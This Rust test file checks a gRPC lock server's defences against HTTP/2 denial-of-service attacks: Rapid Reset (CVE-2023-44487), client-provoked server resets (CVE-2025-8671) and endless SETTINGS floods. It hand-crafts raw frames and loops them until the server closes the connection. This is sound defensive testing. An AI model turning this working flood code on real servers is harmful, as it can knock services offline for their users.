//! Rapid reset (CVE-2023-44487): a client that opens calls and cancels them at once, again and again. A client that has
//! the server reset them (CVE-2025-8671). And one that sends SETTINGS frames, each of which changes all its streams.

use crate::{
    binary::Server,
    kept::Kept,
    metrics::{WITH_ADMIN, becomes},
    support::{Lock, channel, within},
    tls_server::addr,
};
use fencepost_proto::v1::lock_service_client::LockServiceClient;
use std::net::SocketAddr;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

/// Attackers at a time, and the connections of each.
const ATTACKERS: usize = 4;
const CONNECTIONS: usize = 10;
/// Calls in one write.
const CALLS: u32 = 2_048;
/// Sessions of an attacker.
const SESSIONS: usize = 16_000;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// The types of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;
const ENHANCE_YOUR_CALM: u32 = 11;
const HEAD_BYTES: usize = 9;

const ACQUIRE: &str = "/fencepost.v1.LockService/Acquire";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A call that its client cancels.
fn cancelled(stream: u32) -> Vec<u8> {
    let cancel = frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
    [frame(HEADERS, END_HEADERS, stream, &headers(ACQUIRE)), cancel].concat()
}

/// A call that the server resets: it has more bytes than it says, which is none.
fn broken(stream: u32) -> Vec<u8> {
    let content_length = [0x0f, 0x0d, 1, b'0'];
    let headers = [headers(ACQUIRE), content_length.to_vec()].concat();
    [frame(HEADERS, END_HEADERS, stream, &headers), frame(DATA, 0, stream, &[0])].concat()
}

/// Settings with another window for each stream.
fn settings(stream: u32) -> Vec<u8> {
    const INITIAL_WINDOW_SIZE: [u8; 2] = [0, 4];
    let window = 65_535 + stream / 2 % 2;
    frame(SETTINGS, 0, 0, &[&INITIAL_WINDOW_SIZE, &window.to_be_bytes()[..]].concat())
}

/// A session that stays open.
fn session(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &headers("/fencepost.v1.LockService/Session"))
}

/// The headers of a call, without compression: indices of HPACK's static table, and literals with their lengths.
fn headers(method: &str) -> Vec<u8> {
    let literal = |text: &str| [&[u8::try_from(text.len()).unwrap()], text.as_bytes()].concat();
    let (post, http, path, authority, content_type) = (0x83, 0x86, 0x04, 0x01, [0x0f, 0x10]);
    let mut block = vec![post, http, path];
    block.extend(literal(method));
    block.push(authority);
    block.extend(literal("localhost"));
    block.extend(content_type);
    block.extend(literal("application/grpc"));
    block.push(0);
    block.extend([literal("te"), literal("trailers")].concat());
    block
}

/// Sends frames until the server closes the connection: first those of `before`, then those of `call` for one stream
/// after the other. Returns the code of its GOAWAY.
async fn attack(to: SocketAddr, before: &[u8], call: fn(u32) -> Vec<u8>) -> Option<u32> {
    let (mut answers, mut requests) = TcpStream::connect(to).await.unwrap().into_split();
    let attacking = async {
        let mut frames = [PREFACE, &frame(SETTINGS, 0, 0, &[]), before].concat();
        let mut streams = (1..).step_by(2);
        while requests.write_all(&frames).await.is_ok() {
            frames.clear();
            for stream in streams.by_ref().take(usize::try_from(CALLS).unwrap()) {
                frames.extend(call(stream));
            }
        }
    };
    let mut received = Vec::new();
    // After an error, what has been received is there.
    let _ = within(async { tokio::join!(attacking, answers.read_to_end(&mut received)) }).await;
    goaway(&received)
}

/// The code of the first GOAWAY among these frames.
fn goaway(mut frames: &[u8]) -> Option<u32> {
    while let Some((head, rest)) = frames.split_at_checked(HEAD_BYTES) {
        let length = usize::try_from(u32::from_be_bytes([0, head[0], head[1], head[2]])).unwrap();
        let (payload, rest) = rest.split_at_checked(length)?;
        if head[3] == GOAWAY {
            // After the last stream.
            return Some(u32::from_be_bytes(payload[4..8].try_into().unwrap()));
        }
        frames = rest;
    }
    None
}

#[tokio::test(flavor = "multi_thread")]
async fn rapid_resets_close_their_connection_and_cost_no_lease() {
    let server = Server::start_with(&WITH_ADMIN);
    let to = addr(&server);
    let burden = async {
        let attackers = (0..ATTACKERS).map(async |_| {
            for _ in 0..CONNECTIONS {
                assert_eq!(attack(to, &[], cancelled).await, Some(ENHANCE_YOUR_CALM));
            }
        });
        futures_util::future::join_all(attackers).await;
    };
    Kept::new(to).await.beside(burden).await;
    LockServiceClient::new(channel(to)).lock_info("a").await;
    let closed = f64::from(u16::try_from(ATTACKERS * CONNECTIONS).unwrap());
    becomes(&server, "fencepost_refusals_total{bound=\"resets\"}", closed).await;
    // h2 has a line for each such connection, with which any client could flood the log.
    assert!(!server.log().contains("h2::"), "{}", server.log());
}

#[tokio::test(flavor = "multi_thread")]
async fn resets_that_the_client_causes_close_its_connection_and_are_counted() {
    let server = Server::start_with(&WITH_ADMIN);
    assert_eq!(attack(addr(&server), &[], broken).await, Some(ENHANCE_YOUR_CALM));
    becomes(&server, "fencepost_refusals_total{bound=\"resets\"}", 1.0).await;
    LockServiceClient::new(channel(addr(&server))).lock_info("a").await;
}

/// Without the bound such a connection goes on for ever, and each of its turns changes thousands of streams thousands
/// of times, so that nobody else is served.
#[tokio::test(flavor = "multi_thread")]
async fn settings_without_end_close_their_connection_and_cost_no_lease() {
    let server = Server::start_with(&WITH_ADMIN);
    let to = addr(&server);
    let sessions: Vec<u8> = (1..).step_by(2).take(SESSIONS).flat_map(session).collect();
    let attackers = (0..ATTACKERS).map(|_| attack(to, &sessions, settings));
    Kept::new(to).await.beside(futures_util::future::join_all(attackers)).await;
    let closed = f64::from(u16::try_from(ATTACKERS).unwrap());
    becomes(&server, "fencepost_refusals_total{bound=\"settings\"}", closed).await;
    LockServiceClient::new(channel(to)).lock_info("a").await;
}
